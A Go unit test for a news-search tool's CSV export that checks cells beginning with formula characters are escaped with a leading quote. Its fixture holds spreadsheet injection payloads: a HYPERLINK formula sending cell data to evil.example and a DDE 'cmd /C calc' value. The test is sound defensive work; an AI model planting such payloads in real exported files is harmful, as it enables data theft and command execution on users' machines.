package search

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/tracuu/tracuu/internal/article"
)

func TestCSVFormulaInjection(t *testing.T) {
	a := article.Article{
		ID: "x1", URL: "https://a.vn/x", Title: `=HYPERLINK("http://evil.example/?"&A1,"bấm")`,
		Author: "+cmd|' /C calc'!A0", Section: "-2+3", Site: "@SUM(1+1)", Lead: "\tlead", Body: "\rbody",
	}
	var buf bytes.Buffer
	cw := csv.NewWriter(&buf)
	if err := writeRow(cw, nil, a); err != nil {
		t.Fatal(err)
	}
	cw.Flush()
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 1 {
		t.Fatalf("%v %v", rows, err)
	}
	for i, cell := range rows[0] {
		if cell == "" {
			continue
		}
		if c := cell[0]; c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' {
			t.Errorf("column %s starts with %q: %q", CSVHeader[i], c, cell)
		}
	}
	if got := rows[0][2]; got != "'"+a.Title {
		t.Errorf("title = %q, want the text kept after a quote", got)
	}
	if rows[0][0] != "x1" || rows[0][1] != a.URL {
		t.Errorf("plain cells changed: %q", rows[0][:2])
	}
}
